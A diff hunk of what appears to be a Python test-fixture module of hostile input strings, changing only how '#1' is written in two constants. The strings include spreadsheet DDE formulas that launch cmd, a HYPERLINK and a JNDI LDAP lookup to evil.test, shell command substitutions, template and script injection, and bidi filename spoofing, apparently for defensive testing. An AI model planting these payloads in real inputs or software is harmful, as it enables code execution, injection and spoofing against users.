@@ -9,11 +9,11 @@ TURNED: Final = "\u202egnp.exe\u2066\u200f\u2069\ufeff\u061c"
 SEPARATORS: Final = "a\u2028b\u2029c"
 FORMULA: Final = "=cmd|' /C calc'!A0"
 FORMULAS: Final = ("+1+cmd|'!A0", "-1+cmd|'!A0", "@SUM(1)", "\uff1d1+1", '=HYPERLINK("https://evil.test";1)')
-MENTIONS: Final = "@octocat #1 GH-1 a/b#2 www.evil.test https://evil.test a@evil.test <https://evil.test>"
+MENTIONS: Final = "@octocat (#1) GH-1 a/b#2 www.evil.test https://evil.test a@evil.test <https://evil.test>"
 LABEL: Final = '"} 1 masthead_up{a="\\'
 LOG: Final = 'x" level=error event="forged" {"event": "forged"}'
 HTML: Final = "<script>alert(1)</script><img src=x onerror=alert(1)>"
-MARKDOWN: Final = "[x](javascript:alert(1)) ![x](https://evil.test/) `` ``` **b** @everyone #1 | a | b |"
+MARKDOWN: Final = "[x](javascript:alert(1)) ![x](https://evil.test/) `` ``` **b** @everyone (#1) | a | b |"
 XML: Final = "]]> <!-- <![CDATA[ &amp; &#0; \x00\x0b\x0c\ufffe'\""
 PLACEHOLDER: Final = "{0} {url} %s %(x)d ${jndi:ldap://evil.test/a} {{7*7}} $(id) `id`"
 
